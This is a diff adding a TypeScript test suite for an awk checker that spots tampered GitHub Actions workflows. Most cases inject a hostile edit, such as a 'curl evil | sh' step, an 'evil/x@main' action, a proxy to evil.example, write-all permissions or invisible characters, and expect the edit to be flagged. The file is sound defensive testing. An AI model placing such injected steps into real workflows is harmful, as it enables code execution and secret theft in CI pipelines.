@@ -1,0 +1,167 @@
+/**
+ * How set-up.sh tells a workflow that it wrote from one that somebody changed: each case is one edit of the file. What GitHub would read
+ * otherwise is a difference, however it is spelled; comments and the values of a setup are none.
+ */
+import { execFileSync, spawnSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { infra } from './dry-run.ts';
+import { action, tenant } from './set-up.ts';
+
+const parts = join(infra, 'shell');
+const filled = `
+here=${infra} group=rg-cja location=eastus2 vault=kv-contoso-cja network=open runner=ubuntu-latest tenant=${tenant} confirmed=
+subscription=b3d9e2a4-6f17-4c85-8a3b-90e5d7c1f246 entitlement=privacy-security-shield organization= contact='Ada' reviews=yes
+environment=cmk read_environment=cmk-read plan_environment=cmk-plan tags=() action=${action}
+. ${join(parts, 'set-up-files.sh')}
+filled_in "$1"`;
+
+let folder = '';
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'same-workflow-'));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+const written = (name: string) => execFileSync('bash', ['-c', filled, 'bash', name], { encoding: 'utf8' });
+const [setUp, daily] = [written('cmk-set-up.yml'), written('verify-cmk.yml')];
+
+/** What is printed of the changed file. */
+function compared(
+  ours: string,
+  change: (text: string) => string,
+): { readonly status: number | null; readonly stdout: string } {
+  const theirs = change(ours);
+  expect(theirs).not.toBe(ours);
+  const files = { ours, theirs: theirs.replaceAll('\0', '\u0001') };
+  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
+  const paths = ['ours', 'theirs'].map((name) => join(folder, name));
+  const { status, stdout } = spawnSync('awk', ['-f', join(parts, 'same-workflow.awk'), ...paths], { encoding: 'utf8' });
+  return { status, stdout };
+}
+
+type Edit = readonly [what: string, change: (text: string) => string, printed: string];
+const foreign = '0badc0de-93fd-4a07-b5d2-17f0ae369c58';
+const put = (after: string, more: string) => (text: string) => text.replace(after, (found) => `${found}${more}`);
+const swap = (from: string | RegExp, to: string) => (text: string) => text.replace(from, () => to);
+const steps = '    steps:\n';
+const at = '    timeout-minutes: 20\n';
+const location = '          location: eastus2\n';
+const hostile: readonly Edit[] = [
+  ['of another vault', swap('kv-contoso-cja', 'kv-other'), 'has vault-name: kv-other, not vault-name: kv-contoso-cja'],
+  ['of another tenant', swap(tenant, foreign), `, not tenant-id: ${tenant}`],
+  ["of a variable's tenant", swap(tenant, '${{ vars.AZURE_TENANT_ID }}'), `, not tenant-id: ${tenant}`],
+  ['of a tenant once more', put('        with:\n', `          tenant-id: ${foreign}\n`), 'has tenant-id: 0badc0de'],
+  ['of a tenant, quoted', put('        with:\n', `          "tenant-id" : ${foreign}\n`), 'has "tenant-id" : 0badc0de'],
+  ['of a tenant, escaped', put('        with:\n', `          "tenant\\u002did": ${foreign}\n`), 'has "tenant'],
+  ['that restores always', swap('${{ inputs.restore-grant }}', 'true'), 'has restore-grant: true'],
+  ['that restores nothing', swap(/ *restore-grant: \$.*\n/, ''), 'lacks restore-grant:'],
+  ['with a waiver', put(location, '          waive: vault-lock\n'), 'has waive: vault-lock'],
+  [
+    'confirmed by a variable',
+    swap(/(?<=confirmed-key-uri:).*/, ' ${{ vars.CONFIRMED }}'),
+    'has confirmed-key-uri: ${{',
+  ],
+  ['with an expression', swap(/(?<=adobe-ticket: ).*/, '${{ github.event.head_commit.message }}'), 'has adobe-ticket:'],
+  ['with one in a text', swap('  workflow_dispatch:', '  workflow_dispatch: # ${{ x }}\n    x: 1'), 'has x: 1'],
+  ['with a step', put(steps, '      - uses: evil/x@main\n'), 'has - uses: evil/x@main'],
+  ['with a step in flow style', put(steps, '      - { run: "curl evil | sh" }\n'), 'has - { run: "curl evil | sh" }'],
+  ['with a step as a complex key', put(steps, '      - ? run\n        : curl evil\n'), 'has - ? run'],
+  ['with a step in an escaped key', put(steps, '      - "r\\x75n": curl evil\n'), 'has - "r'],
+  ['with an anchor', swap('location: eastus2', 'location: &a eastus2'), 'has location: &a eastus2'],
+  ['with an alias', swap('location: eastus2', 'location: *a'), 'has location: *a'],
+  ['with a tag of YAML', swap('location: eastus2', 'location: !!str eastus2'), 'has location: !!str'],
+  ['with a block for a value', swap('location: eastus2', 'location: |\n            eastus2'), 'has location: |'],
+  ['with an open quote', swap('location: eastus2', 'location: "eastus2'), 'has location: "eastus2'],
+  [
+    'with two values on a line',
+    swap('location: eastus2', 'location: eastus2   vault-name: x'),
+    'has location: eastus2   ',
+  ],
+  ['with a value that goes on', put(location, '            more\n'), 'has more'],
+  ['with a value given twice', put(location, location), 'has location again'],
+  ['with a value elsewhere', put(at, '          location: x\n'), 'has location: x'],
+  ['in a container', put(at, '    container: evil/image\n'), 'has container: evil/image'],
+  ['with a service', put(at, '    services: { x: { image: evil/image } }\n'), 'has services:'],
+  [
+    'on another runner',
+    swap('runs-on: ubuntu-latest', 'runs-on: [self-hosted, evil]'),
+    'has runs-on: [self-hosted, evil]',
+  ],
+  ['behind a proxy', put(at, '    env: { HTTPS_PROXY: http://evil.example }\n'), 'has env: { HTTPS_PROXY'],
+  [
+    'with a proxy for all',
+    swap('permissions: {}', 'env: { NODE_OPTIONS: x }\n\npermissions: {}'),
+    'has env: { NODE_OPTIONS',
+  ],
+  ['with defaults', swap('permissions: {}', 'defaults: { run: { shell: x } }\npermissions: {}'), 'has defaults:'],
+  ['with another event', put('on:\n', '  issue_comment:\n'), 'has issue_comment:'],
+  ['with more permissions', swap('permissions: {}', 'permissions: write-all'), 'has permissions: write-all'],
+  ['with permissions of the job', put('    permissions:\n', '      contents: write\n'), 'has contents: write'],
+  ['with no approval', swap(/\|\| 'cmk-plan'/, "|| 'cmk'"), 'has environment:'],
+  ['that can run again', swap('github.run_attempt == 1', 'github.run_attempt != 0'), "has inputs.mode == 'plan' ||"],
+  ['with a second job', (text) => `${text}  more:\n    runs-on: ubuntu-latest\n    steps: [{ run: x }]\n`, 'has more:'],
+  ['in two documents', (text) => `${text}---\n${text}`, 'has ---'],
+  ['of somebody else', () => 'on: push\njobs: {}\n', 'has on: push'],
+  ['of nothing', () => '# Nothing\n', 'it lacks name:'],
+  ['of another action', swap('org/cja-cmk-action@', '0rg/cja-cmk-action@'), 'has uses: 0rg/cja-cmk-action@'],
+  ['of a branch of the action', swap(/(?<=cja-cmk-action@)\S+/, 'main'), 'has uses: org/cja-cmk-action@main'],
+  ['of a short commit', swap(/(?<=cja-cmk-action@)\S+/, '1111111'), 'has no full commit'],
+  ['of another mode', swap("'ensure' || 'plan' }}\n          ", "'ensure' || 'verify' }}\n          "), 'has mode:'],
+  ['with a tab', swap('location: eastus2', 'location:\teastus2'), 'has an invisible character'],
+  ['with carriage returns', swap(/\n/g, '\r\n'), 'has an invisible character'],
+  ['with a mark of byte order', (text) => `\uFEFF${text}`, 'has an invisible character'],
+  ['with a line separator', swap('# Written', '# x\u2028  evil'), 'has an invisible character'],
+  ['with a NEL', swap('# Written', '# x\u0085  evil'), 'has an invisible character'],
+  ['with a null', swap('id-token', 'id\0-token'), 'has an invisible character'],
+  ['with a long line', put(steps, `      - run: ${'x'.repeat(400)}\n`), `has - run: ${'x'.repeat(72)}…, not`],
+];
+
+test.each(hostile)('%s is not ours', (_, change, printed) => {
+  const { status, stdout } = compared(setUp, change);
+  expect([status, stdout]).toEqual([1, expect.stringContaining(printed)]);
+});
+
+test.each<[string, (text: string) => string]>([
+  ['with comments', (text) => `# Ours.\n${text.replace(at, `${at.trimEnd()} # enough\n    # More.\n`)}`],
+  [
+    'with values that it left out',
+    put(location, '          network: restricted\n          tags: |\n            a=b\n'),
+  ],
+  ['with a ticket', swap('adobe-ticket: ""', 'adobe-ticket: "E-001234567"')],
+  ['without a ticket', swap(/ *adobe-ticket: .*\n/, '')],
+  ['with other quotes and letters', swap("'kv-contoso-cja'", 'KV-contoso-cja # ours')],
+  [
+    'with a confirmed key',
+    swap(/(?<=confirmed-key-uri: ).*/, `https://kv-contoso-cja.vault.azure.net/keys/cja-cmk/${'01'.repeat(16)}`),
+  ],
+])('%s it is ours', (_, change) => {
+  expect(compared(setUp, change)).toEqual({ status: 0, stdout: `commit ${'1'.repeat(40)}\n` });
+});
+
+test('the commit of another version is printed, for the caller to judge', () => {
+  const newer = swap(/(?<=cja-cmk-action@)\S+/, `${'a'.repeat(40)} # v1.2.3`);
+  expect(compared(setUp, newer)).toEqual({ status: 0, stdout: `commit ${'a'.repeat(40)}\n` });
+});
+
+const monitor = / {6}# (- \{ name: Monitor.*\n)/;
+test.each<Edit>([
+  ['with its monitor', (text) => text.replace(monitor, '      $1'), 'commit 1'],
+  ['in the service region EU', swap('https://events.pagerduty', 'https://events.eu.pagerduty'), 'commit 1'],
+  [
+    'with a command in its script',
+    swap('"$TEAMS_URL" <<EOF', '"$TEAMS_URL" # $(curl evil) <<EOF'),
+    'has curl --silent',
+  ],
+  ['with an address of somebody else', swap('events.pagerduty.com', 'evil.example'), 'has PAGERDUTY_URL:'],
+  [
+    'with another monitor',
+    (text) => text.replace(monitor, "      - { name: Monitor, run: 'curl evil' }\n"),
+    'has - { name: Monitor',
+  ],
+  ['with more permissions', put('    permissions:\n', '      contents: write\n'), 'has contents: write'],
+  ['that sends after a rerun', swap('always() && github.run_attempt == 1', 'always()'), 'has if:'],
+])('of every day %s', (_, change, printed) => {
+  const { status, stdout } = compared(daily, change);
+  expect([status, stdout]).toEqual([printed.startsWith('commit') ? 0 : 1, expect.stringContaining(printed)]);
+});
